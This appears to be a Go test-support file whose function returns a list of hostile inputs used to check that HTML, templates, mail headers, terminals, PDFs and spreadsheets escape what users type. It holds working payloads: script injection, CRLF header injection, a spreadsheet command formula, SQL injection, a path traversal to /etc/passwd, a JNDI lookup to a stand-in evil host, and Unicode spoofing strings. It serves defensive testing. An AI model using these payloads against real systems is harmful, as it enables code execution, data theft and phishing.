// Package hostiletest is a corpus of text that people could type to break out of
// where it is shown; every sink is tested with all of it.
package hostiletest

import "strings"

// Payloads break out of headers, text, HTML, templates, terminals, spreadsheets and
// documents that take what people type for their own syntax.
func Payloads() []string {
	return []string{
		// HTML and its attributes
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `'><b>bold</b>`,
		`</title><script>alert(1)</script>`, `</style><style>*{display:none}</style>`, `</td></tr></table><h1>Pay here</h1>`,
		`<!-- --><!--`, `-->`, `<![endif]-->`, `<![CDATA[x]]>`, `<?xml version="1.0"?>`, `</bdi><bdi dir="rtl">`, `<plaintext>`,
		`<iframe src="//evil.example">`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=//evil.example">`,
		`<a href="javascript:alert(1)">Click</a>`, `<form action="//evil.example"><input name=q>`, `<link rel=stylesheet href=//evil.example/x.css>`,
		`&lt;b&gt;`, `&amp;amp;`, `&#60;script&#62;`, `&nbsp;&zwj;`, `"`, `'`, "`", `" onmouseover="alert(1)`, `style="position:fixed"`,
		`expression(alert(1))`, `url(javascript:alert(1))`, `}*{background:url(//evil.example)}`, `javascript:alert(1)`, `+ADw-script+AD4-`,
		// templates
		`{{.Vendor.SupportEmail}}`, `{{template "layout" .}}`, `{{/*`, `{{end}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{% raw %}`, `%s%n%d`, `[[${7*7}]]`,
		// headers, lines, terminals
		"Ann\r\nBcc: victim@evil.example", "Ann\nContent-Type: text/html\n\n<b>x</b>", "a\r\n.\r\nMAIL FROM:<x@evil.example>", "Subject: x\rTo: y",
		"=?utf-8?B?PGI+?=", "a\u2028Bcc: x\u2029y", "x\x00y\x01\x1b[2J\x07", "\u0085\u000b\u000c", "\xff\xfe<b>",
		// what is not seen
		"gpj.\u202eexe\u202c", "\u2066\u2067a\u2068b\u2069", "pay\u200bpal\u200d.\ufeffexample", "\u200b\u200e\u200f", "a\u00adb\u034fc\u180ed", "\U000e0041\U000e0042x",
		"\u3164\u2800", "Z" + strings.Repeat("\u0301", 40), "مرحبا <b>שלום</b> 123", "علی\u200cرضا", "👩\u200d💻 & Söhne",
		// documents
		`) Tj ET Q /JS (app.alert(1)) (`, `\\) >> endobj 1 0 obj <</Type/Action/S/JavaScript`, `%PDF-1.7 %%EOF`, `endstream endobj trailer`, `{nb}`, `中文有限公司 あ 한국`,
		// other sinks
		`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(A1)`, "\t=1", `'; DROP TABLE users;--`, `../../etc/passwd`, `\\evil\share`, `${jndi:ldap://evil.example/a}`,
		`https://evil.example/?a=1&b=2#c`, `Ann <ann@evil.example>`, strings.Repeat("W", 500), strings.Repeat("🙂", 300), strings.Repeat("<", 200),
	}
}
